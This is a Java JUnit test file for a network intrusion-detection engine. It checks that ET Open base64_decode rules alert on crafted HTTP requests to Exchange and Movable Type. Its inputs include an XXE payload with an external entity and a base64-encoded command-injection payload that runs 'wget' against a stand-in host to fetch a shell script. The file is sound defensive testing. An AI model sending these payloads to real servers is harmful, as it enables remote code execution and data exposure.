package io.judo.engine.detect;

import static org.junit.jupiter.api.Assertions.assertEquals;

import io.judo.packet.build.PacketBuilder;
import io.judo.packet.build.TcpConversation;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * ET Open's base64_decode rules end to end: HTTP requests whose bodies carry base64 made by java.util.Base64 (the
 * independent encoder), through reassembly, the HTTP parser and the rule programs; the expected alerts are
 * hand-checked against Suricata's semantics (decode from the end of the previous match, at most {@code bytes} input
 * bytes, stop at the first byte outside the alphabet).
 */
class Base64DecodeTest {
    private static byte[] ascii(String s) {
        return s.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static String b64(String s) {
        return Base64.getEncoder().encodeToString(ascii(s));
    }

    private static Map<Long, Integer> alerts(String rules, String request) {
        List<TcpConversation.Frame> frames = new TcpConversation(PacketBuilder::ethernet, "192.0.2.7", 40001,
                "10.0.0.5", 80, 1000, 5000).clock(1_700_000_000_000_000_000L, 1_000_000).handshake()
                .clientSends(ascii(request)).serverSends(ascii("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"))
                .close().frames();
        return Replay.bySid(Replay.alerts(rules, "b64.rules", sink -> Replay.timed(frames, sink)));
    }

    private static String post(String uri, String body) {
        return "POST " + uri + " HTTP/1.1\r\nHost: mail\r\nContent-Type: text/xml\r\nContent-Length: " + body.length()
                + "\r\n\r\n" + body;
    }

    /** sid 2031507, CVE-2020-17141: an XXE document base64-encoded in a RouteComplaint's Data element. */
    @Test
    void exchangeRouteComplaintXxe() throws Exception {
        String rule = Replay.etRule(2031507) + "\n";
        String xxe = "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"http://192.0.2.7/x\">]><x>&e;</x>";
        String body = "<soap:Envelope><soap:Body><m:RouteComplaint ><m:Data>" + b64(xxe)
                + "</m:Data></m:RouteComplaint></soap:Body></soap:Envelope>";
        assertEquals(Map.of(2031507L, 1), alerts(rule, post("/ews/Exchange.asmx", body)));

        String benign = "<?xml version=\"1.0\"?><!DOCTYPE x><x>no entity here</x>";
        assertEquals(Map.of(), alerts(rule, post("/ews/Exchange.asmx", body.replace(b64(xxe), b64(benign)))),
                "DOCTYPE without SYSTEM");
        assertEquals(Map.of(), alerts(rule, post("/ews/Exchange.asmx", body.replace(b64(xxe), xxe))),
                "the document itself, not base64: '<' ends the decode at once");
        String late = "<?xml version=\"1.0\"?><!DOCTYPE x [" + "<!-- padding -->".repeat(16)
                + "<!ENTITY e SYSTEM \"http://192.0.2.7/x\">]><x>&e;</x>";
        assertEquals(Map.of(), alerts(rule, post("/ews/Exchange.asmx", body.replace(b64(xxe), b64(late)))),
                "SYSTEM past the 300 base64 characters the rule decodes");
        String encoded = b64(xxe);
        int cut = xxe.indexOf("<!ENTITY") / 3 * 4; // a group boundary: what decodes before it has DOCTYPE only
        assertEquals(Map.of(), alerts(rule, post("/ews/Exchange.asmx",
                body.replace(encoded, encoded.substring(0, cut) + "\r\n" + encoded.substring(cut)))),
                "a line break inside the base64 ends the decode before SYSTEM (RFC 4648, as Suricata decodes)");
    }

    /** sid 2034366, CVE-2021-20837: a Movable Type XML-RPC call whose base64 value decodes to a backquote. */
    @Test
    void movableTypeBackquote() throws Exception {
        String rule = Replay.etRule(2034366) + "\n";
        String call = "<?xml version=\"1.0\"?><methodCall><methodName>mt.handler_to_coderef</methodName><params>"
                + "<param><value><base64>%s</base64></value></param></params></methodCall>";
        assertEquals(Map.of(2034366L, 1), alerts(rule, post("/cgi-bin/mt/mt-xmlrpc.cgi",
                call.formatted(b64("`wget http://192.0.2.7/sh`")))));
        assertEquals(Map.of(), alerts(rule, post("/cgi-bin/mt/mt-xmlrpc.cgi", call.formatted(b64("a `b`")))),
                "startswith: the backquote must be the first decoded byte");
    }
}
